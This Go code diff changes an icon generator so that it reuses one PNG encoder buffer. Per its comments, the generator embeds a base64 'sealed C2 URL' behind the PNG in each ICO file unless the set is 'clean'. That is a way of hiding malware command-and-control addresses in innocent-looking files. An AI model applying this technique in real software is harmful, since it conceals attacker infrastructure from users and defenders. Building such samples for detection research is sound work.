@@ -14,10 +14,17 @@ import (
 
 const iconSize = 32 // pixels, both ways
 
+// oneBuffer keeps the encoder's working memory from one icon to the next: it is
+// a megabyte, and making it takes longer than the picture.
+type oneBuffer struct{ buffer *png.EncoderBuffer }
+
+func (o *oneBuffer) Get() *png.EncoderBuffer  { return o.buffer }
+func (o *oneBuffer) Put(b *png.EncoderBuffer) { o.buffer = b }
+
 // icon returns one of the 16 icons: a valid ICO that holds a PNG, and behind
 // the PNG, unless the set is clean, "$" and the base64 of the sealed C2 URL.
-func icon(p Params, index int) ([]byte, error) {
-	picture, err := drawing(index)
+func icon(p Params, index int, encoder *png.Encoder) ([]byte, error) {
+	picture, err := drawing(index, encoder)
 	if err != nil {
 		return nil, err
 	}
@@ -55,7 +62,7 @@ func seal(p Params, index int) ([]byte, error) {
 }
 
 // drawing is a plain disc; its colour tells the icons apart.
-func drawing(index int) ([]byte, error) {
+func drawing(index int, encoder *png.Encoder) ([]byte, error) {
 	picture := image.NewNRGBA(image.Rect(0, 0, iconSize, iconSize))
 	fill := color.NRGBA{R: uint8(index * 16), G: 96, B: uint8(255 - index*16), A: 255}
 	for y := range iconSize {
@@ -66,6 +73,6 @@ func drawing(index int) ([]byte, error) {
 		}
 	}
 	var b bytes.Buffer
-	err := png.Encode(&b, picture)
+	err := encoder.Encode(&b, picture)
 	return b.Bytes(), err
 }
